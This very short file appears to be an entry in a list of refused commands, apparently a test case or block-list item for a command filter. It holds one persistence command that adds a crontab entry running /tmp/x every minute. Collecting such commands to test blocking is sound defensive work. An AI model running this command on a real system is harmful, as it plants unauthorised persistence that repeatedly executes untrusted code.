# refused: persistence.crontab 2
(crontab -l; echo '* * * * * /tmp/x') | crontab -
